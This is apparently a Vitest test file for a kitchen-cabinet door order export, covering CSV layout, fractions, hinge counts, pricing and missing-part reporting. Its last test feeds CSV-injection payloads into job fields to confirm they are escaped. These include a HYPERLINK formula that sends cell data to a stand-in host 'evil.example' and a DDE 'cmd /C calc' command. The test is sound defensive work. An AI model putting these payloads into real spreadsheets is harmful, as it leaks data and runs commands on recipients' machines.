import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { normalizeCabinetData } from './cabinetData';
import { computeDoorOrder } from './doorOrder';
import {
  ORDER_COLUMNS,
  PRICE_COLUMNS,
  buildOrderExport,
  orderExportCsv,
  orderExportJson,
  parseOrderExportCsv,
  type OrderCheck,
} from './orderExport';
import { priceListSchema } from './pricing';

const kitchen = (
  JSON.parse(
    readFileSync(
      new URL('../../tests/fixtures/jobs/kitchen-full-overlay.json', import.meta.url),
      'utf8',
    ),
  ) as { cabinetData: Record<string, unknown> }
).cabinetData;
const job = {
  customer: 'Rivera, Ana',
  address: '12 Oak St, Springfield',
  orderDate: '2026-11-23',
  poNumber: 'PO-1187',
  contractor: {
    company: 'Oak & Hinge Refacing',
    name: 'Dana Cole',
    phone: '(555) 201-3344',
    email: 'dana@example.com',
  },
};

function exportOf(raw: Record<string, unknown>, options?: Parameters<typeof buildOrderExport>[3]) {
  const data = normalizeCabinetData(raw);
  return buildOrderExport(computeDoorOrder(data), data.form, job, options);
}

describe('order export: the door maker’s table', () => {
  const x = exportOf(kitchen);
  const csv = orderExportCsv(x);
  const pieces = parseOrderExportCsv(csv);

  it('is exactly one table: the order columns on line 1, one row per distinct size, nothing after', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toBe(ORDER_COLUMNS.join(','));
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data.every((r) => r.length === ORDER_COLUMNS.length)).toBe(true);
    expect(parsed.data).toHaveLength(pieces.length + 1);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).not.toContain('\r\n\r\n');
    expect(pieces.filter((r) => r.Item === 'Door')).toHaveLength(11);
    expect(pieces.filter((r) => r.Item === 'Drawer front')).toHaveLength(10);
    expect(pieces.every((r) => r.Item === 'Door' || r.Item === 'Drawer front')).toBe(true);
    const sizes = pieces.map((r) => `${r.Item} ${r['Width (in)']}x${r['Height (in)']}`);
    expect(new Set(sizes).size).toBe(sizes.length);
  });

  it('a door row: decimal and fraction, styles, overlay, hinges per piece, job on the row', () => {
    expect(pieces[1]).toEqual({
      Item: 'Door',
      Qty: '2',
      'Width (in)': '17.376',
      'Width (fraction)': '17 3/8"',
      // The exact decimal to 4 places (32.15625 half up), the fraction to the nearest 1/16".
      'Height (in)': '32.1563',
      'Height (fraction)': '32 3/16"',
      'Door style': 'Shaker 5-piece',
      'Drawer-front style': '',
      Color: 'Alabaster',
      Finish: '',
      NRS: 'NRS-2417',
      Overlay: 'Full Overlay STD 1 1/2": 1 7/16" (1.438)',
      'Hinges per piece': '2',
      Cabinets: '#2 Wall Door 1, #14 Wall Door 1',
      'PO number': 'PO-1187',
      Customer: 'Rivera, Ana',
      'Job address': '12 Oak St, Springfield',
      'Contractor company': 'Oak & Hinge Refacing',
      'Contractor name': 'Dana Cole',
      'Contractor phone': '(555) 201-3344',
      'Contractor email': 'dana@example.com',
      'Order date': '2026-11-23',
      'Red checks': '',
    });
  });

  it("marks the red checks on each row they hold for: the job's on every row, a cabinet's on its lines", () => {
    const checks = [
      { level: 'error' as const, cabinet: null, message: 'Job: no door style or color' },
      { level: 'error' as const, cabinet: 2, message: 'Cabinet 2 Door 1: not measured' },
      { level: 'warning' as const, cabinet: 2, message: 'Cabinet 2: a warning only' },
    ];
    const rows = parseOrderExportCsv(orderExportCsv(exportOf(kitchen, { checks })));
    expect(rows.every((r) => r['Red checks']!.startsWith('Job: no door style or color'))).toBe(
      true,
    );
    const ofTwo = rows.filter((r) => /(^|, )#2 /.test(r.Cabinets ?? ''));
    expect(ofTwo.length).toBeGreaterThan(0);
    for (const r of ofTwo)
      expect(r['Red checks']).toBe('Job: no door style or color; Cabinet 2 Door 1: not measured');
    expect(rows.some((r) => r['Red checks']!.includes('warning'))).toBe(false);
  });

  it('a drawer-front row carries the drawer-front style and no hinges', () => {
    const front = pieces.find((r) => r.Item === 'Drawer front')!;
    expect(front).toMatchObject({
      'Door style': '',
      'Drawer-front style': 'Slab',
      'Hinges per piece': '0',
      'Width (fraction)': '17 7/8"',
      'Height (fraction)': '6 15/16"',
    });
  });

  it('no hinge row is in the CSV; the hinges stay in the export for the sheet and workbook', () => {
    expect(x.hinges).toEqual([
      { size: 0.5, qty: 12, partNumber: '' },
      { size: 1.438, qty: 22, partNumber: '' },
    ]);
    expect(csv).not.toMatch(/^Hinge/m);
  });

  it('the fixture’s quantities add up to the pieces (nothing lost in merging)', () => {
    const order = computeDoorOrder(normalizeCabinetData(kitchen));
    const sum = (rows: Record<string, string>[]) => rows.reduce((s, r) => s + Number(r.Qty), 0);
    expect(sum(pieces)).toBe(order.pieces.reduce((s, p) => s + p.quantity, 0));
  });
});

describe('order export: nothing dropped silently', () => {
  const broken = {
    ...kitchen,
    cabinets: {
      ...(kitchen.cabinets as object),
      '20': { type: 'Hutch 9/9', order: 'b00' },
      '21': { type: 'Wall', order: 'b01' },
    },
    itemState: {
      ...(kitchen.itemState as object),
      '21_0': { width: '', height: '30', nextToWall: false, splitDoor: false, type: 'Door' },
    },
  };
  const orderChecks: OrderCheck[] = [
    { level: 'error', cabinet: 3, message: 'Split door wider than 48": check the opening' },
    {
      level: 'warning',
      cabinet: 9,
      message: 'Lazy Susan doors usually match: 11 3/4" and 11 3/4"',
    },
  ];
  const x = exportOf(broken, { checks: orderChecks });

  it('lists every part left out, with cabinet number, type, part and reason', () => {
    expect(x.notOrdered).toEqual([
      { cabinet: 15, cabinetType: 'Hutch 9/9', part: '', reason: 'unknown cabinet type' },
      { cabinet: 16, cabinetType: 'Wall', part: 'Door 1', reason: 'width not entered' },
    ]);
    expect(parseOrderExportCsv(orderExportCsv(x)).map((r) => r.Item)).not.toContain('Left out');
  });

  it('keeps the order checks as given (for the sheet and the workbook)', () => {
    expect(x.checks).toEqual(orderChecks);
  });

  it('JSON carries the same data', () => {
    const json = JSON.parse(orderExportJson(x)) as typeof x;
    expect(json.notOrdered).toEqual(x.notOrdered);
    expect(json.checks).toEqual(orderChecks);
    expect(json.lines).toHaveLength(21);
    expect(json.job).toEqual(job);
    expect(json).not.toHaveProperty('totals');
  });
});

describe('order export: hinges by door height', () => {
  it('hinges per piece and the hinge table follow the job’s rule', () => {
    const x = exportOf({ ...kitchen, hingeRule: { mode: 'byHeight', upTo: [24, 30, 40] } });
    const pieces = parseOrderExportCsv(orderExportCsv(x));
    const perPiece = Object.fromEntries(
      pieces
        .filter((r) => r.Item === 'Door')
        .map((r) => [r['Height (fraction)'], r['Hinges per piece']]),
    );
    expect(perPiece).toEqual({
      '32 3/16"': '4',
      '24 11/16"': '3',
      '42 1/8"': '5',
      '37 7/8"': '4',
      '29 11/16"': '3',
      '29 7/16"': '3',
    });
    expect(x.hinges.map((h) => [h.qty, h.size])).toEqual([
      [24, 0.5],
      [37, 1.438],
    ]);
    expect(x.hingeRuleText).toBe('By door height: 2 up to 24", 3 up to 30", 4 up to 40", 5 above');
  });
});

describe('order export: prices', () => {
  const prices = priceListSchema.parse({
    currency: 'USD',
    doorPerSqFt: 20,
    drawerFrontPerSqFt: 15,
    perHinge: 4.5,
    hingeParts: [{ size: 1.4375, partNumber: 'BLUM-71B3750' }],
  });

  it('adds area and price columns; the lines and hinges add up to the total', () => {
    const x = exportOf(kitchen, { prices });
    const csv = orderExportCsv(x);
    expect(csv.slice(1).split('\r\n')[0]).toBe([...ORDER_COLUMNS, ...PRICE_COLUMNS].join(','));
    const pieces = parseOrderExportCsv(csv);
    // 17.376 × 32.15625 / 144 = 3.88 sq ft per door, ×2 = 7.76 sq ft × $20 = $155.21
    expect(pieces[1]).toMatchObject({
      'Area per piece (sq ft)': '3.88',
      'Line area (sq ft)': '7.76',
      'Price per sq ft': '20.00',
      'Line price': '155.21',
    });
    // A 17 7/8" × 6 15/16" front is 0.86 sq ft, above the 0.5 minimum.
    expect(pieces.find((r) => r.Item === 'Drawer front')).toMatchObject({
      'Area per piece (sq ft)': '0.86',
    });
    expect(x.hinges.map((h) => h.price)).toEqual([54, 99]);
    expect(x.hinges.map((h) => h.partNumber)).toEqual(['', 'BLUM-71B3750']);
    const lineSum =
      pieces.reduce((s, r) => s + Math.round(Number(r['Line price']) * 100), 0) + 15300;
    expect(x.totals!.total * 100).toBeCloseTo(lineSum, 6);
  });

  it('bills the minimum area for a small piece', () => {
    const tiny = {
      ...kitchen,
      cabinets: { '1': { type: 'Kite DB 0/3', order: 'a0' } },
      itemState: { '1_0': { width: '5', height: '2', type: 'Front' } },
    };
    const x = exportOf(tiny, { prices: { ...prices, minDrawerFrontSqFt: 0.5 } });
    // 7.876 × 4.156 / 144 = 0.227 sq ft → billed 0.5 sq ft × $15 = $7.50
    expect(x.lines[0]!.price).toMatchObject({ pieceSqFt: 0.5, lineSqFt: 0.5, linePrice: 7.5 });
  });

  it('no price list → no price fields anywhere', () => {
    const x = exportOf(kitchen, { prices: null });
    expect(orderExportCsv(x)).not.toMatch(/price|sq ft|Totals/i);
    expect(orderExportJson(x)).not.toMatch(/price|totals/i);
  });
});

describe('order export: formula-safe cells (OWASP CSV injection)', () => {
  it('a customer, address or PO that starts like a formula is written as text; sizes stay numbers', () => {
    const data = normalizeCabinetData(kitchen);
    const hostile = {
      ...job,
      customer: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
      address: '@SUM(1+1)',
      poNumber: '-2+3+cmd|" /C calc"!A0',
      contractor: { ...job.contractor, company: '+Oak', name: '\tDana', phone: '\r555' },
    };
    const rows = parseOrderExportCsv(
      orderExportCsv(buildOrderExport(computeDoorOrder(data), data.form, hostile)),
    );
    const first = rows[0]!;
    expect(first.Customer).toBe(`'${hostile.customer}`);
    expect(first['Job address']).toBe(`'${hostile.address}`);
    expect(first['PO number']).toBe(`'${hostile.poNumber}`);
    for (const r of rows) {
      expect(Number(r['Width (in)'])).toBeGreaterThan(0);
      expect(r.Qty).toMatch(/^\d+$/);
    }
    // A plain negative number written as text is a number, not a formula.
    expect(
      parseOrderExportCsv(
        orderExportCsv(
          buildOrderExport(computeDoorOrder(data), data.form, { ...job, poNumber: '-1187' }),
        ),
      )[0]!['PO number'],
    ).toBe('-1187');
  });
});
